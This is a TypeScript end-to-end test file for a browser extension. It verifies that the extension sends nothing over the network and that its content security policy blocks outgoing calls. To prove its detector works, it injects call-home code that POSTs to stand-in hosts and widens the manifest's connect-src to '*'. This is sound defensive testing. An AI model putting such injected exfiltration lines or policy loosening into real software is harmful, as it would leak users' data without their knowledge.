/**
 * The extension asks the network for nothing. Every end-to-end test watches for that (`tests/support/scene.ts`,
 * `tests/support/faults/recording.ts`); here a walk over the screens does, and builds that do ask are caught.
 */
import { expect, inject } from 'vitest';
import { findBrowser } from '../../scripts/browser/find.ts';
import { follow, see } from '../../scripts/browser/hands.ts';
import { launch } from '../../scripts/browser/launch.ts';
import { agree, openOnboarding, RUNNING_SHOES, startJourney } from '../../scripts/browser/product.ts';
import { until } from '../../scripts/browser/until.ts';
import { BUILDS } from '../../scripts/build.ts';
import { startWorld } from '../../world/server.ts';
import { withBroken } from '../support/broken-build.ts';
import { exportRows } from '../support/exported.ts';
import { strangers } from '../support/network.ts';
import { outsideHosts, test } from '../support/scene.ts';

const kind = inject('browser');

test('the extension asks the network for nothing', async ({ scene }) => {
  await scene.begin(RUNNING_SHOES);
  const shop = await scene.openTab('http://www.velora.example/running-shoes');
  await follow(shop, 'Velora Skyline 4');
  expect(await exportRows(scene, shop)).not.toEqual([]);
  const dashboard = await scene.openExtensionPage('dashboard.html');
  await see(dashboard, 'in 1 journey');
  expect(strangers(outsideHosts(scene.world))).toEqual([]);

  // from the extension's own pages nothing gets out even if a line of code tried
  const tried = await dashboard.evaluate(() =>
    fetch('http://collector.example/').then(
      () => 'sent',
      () => 'refused',
    ),
  );
  expect(tried).toBe('refused');
  expect(strangers(outsideHosts(scene.world))).toEqual([]);

  // the watch sees what goes out, plain or in a tunnel: here from a web page
  scene.asked.add('collector.example');
  await shop.bringToFront();
  await shop.evaluate(() => fetch('http://collector.example/', { mode: 'no-cors' }).catch(() => undefined));
  await shop.evaluate(() => fetch('https://collector.example/', { mode: 'no-cors' }).catch(() => undefined));
  expect(strangers(outsideHosts(scene.world))).toEqual(['collector.example', 'collector.example']);
});

const calls = (host: string) => (code: string) =>
  `fetch('http://${host}/rows',{method:'POST',mode:'no-cors',body:'x'}).catch(()=>{});${code}`;
const TALKATIVE = { 'background.js': calls('background.example'), 'page.js': calls('page.example') };

test('control: a build that calls home from background and page script is caught', async () => {
  const breaks = {
    ...TALKATIVE,
    'manifest.json': (text: string) => text.replace("connect-src 'none'", 'connect-src *'),
  };
  expect(await withBroken(BUILDS[kind], breaks, (folder) => strangersOf(folder, 2))).toEqual([
    'background.example',
    'page.example',
  ]);
});

test('a background that tries to call home gets nothing out: the policy stands in its way', async () => {
  // page scripts stand under the page's policy, not ours: no line of theirs may ask (`manifest.e2e.ts`)
  expect(await withBroken(BUILDS[kind], TALKATIVE, (folder) => strangersOf(folder, 1))).toEqual([
    'page.example',
  ]);
});

/** The strange hosts, each once, that a visit with this build asks for; waits for at least so many. */
async function strangersOf(extension: string, least: number): Promise<string[]> {
  const world = await startWorld();
  const driven = await launch({ kind, path: findBrowser(kind) ?? '', extension, worldPort: world.port });
  const seen = (): string[] => [...new Set(strangers(outsideHosts(world)))].sort();
  try {
    await driven.allowSites();
    const page = await openOnboarding(driven);
    await agree(page);
    await startJourney(page, RUNNING_SHOES);
    await driven.openTab('http://www.velora.example/running-shoes');
    await until(() => Promise.resolve(seen().length >= least), 'the build to call home');
    return seen();
  } finally {
    await driven.close();
    await world.close();
  }
}
